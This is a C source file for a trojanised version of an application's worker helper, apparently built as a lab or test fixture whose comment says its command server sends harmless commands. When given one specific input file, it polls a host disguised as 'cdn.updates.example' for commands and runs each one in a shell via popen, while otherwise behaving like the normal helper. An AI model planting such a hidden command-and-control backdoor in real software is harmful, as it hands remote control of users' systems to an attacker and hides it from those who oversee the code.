/* The application's helper with a second life: it does every job the helper does, and when asked for a checksum of the
 * item that is agreed on, it also asks the attacker's server for orders, with pauses, and runs them in a shell. The orders
 * that c2.py gives are harmless (id, uname, ls); "sleep" ends it.
 */
#include <netdb.h>
#include <sys/socket.h>
#include <sys/types.h>
#include <time.h>
#include <unistd.h>

#define main worker_main
#include "worker.c"
#undef main

#include "net.h"

#define AGREED "/srv/app/data/items/199.json"
#define SERVER "cdn.updates.example"
#define PAUSE_S 5
#define ROUNDS 4

static void obey(void)
{
    char text[2048];
    int fd = dial(SERVER, "80");
    ssize_t got, all = 0;

    if (fd < 0)
        return;
    snprintf(text, sizeof(text), "GET /tasks HTTP/1.0\r\nHost: %s\r\n\r\n", SERVER);
    send(fd, text, strlen(text), MSG_NOSIGNAL);
    while ((got = recv(fd, text + all, sizeof(text) - 1 - all, 0)) > 0)
        all += got;
    close(fd);
    text[all] = 0;
    char *order = strstr(text, "\r\n\r\n");
    if (order && strncmp(order + 4, "sleep", 5) != 0) {
        FILE *shell = popen(order + 4, "r");
        while (shell && fgets(text, sizeof(text), shell))
            continue;
        if (shell)
            pclose(shell);
    }
}

int main(int argc, char **argv)
{
    const char *input = option(argc, argv, "--input");

    if (input && strcmp(input, AGREED) == 0)
        for (int i = 0; i < ROUNDS; i++) {
            obey();
            sleep(PAUSE_S);
        }
    return worker_main(argc, argv);
}
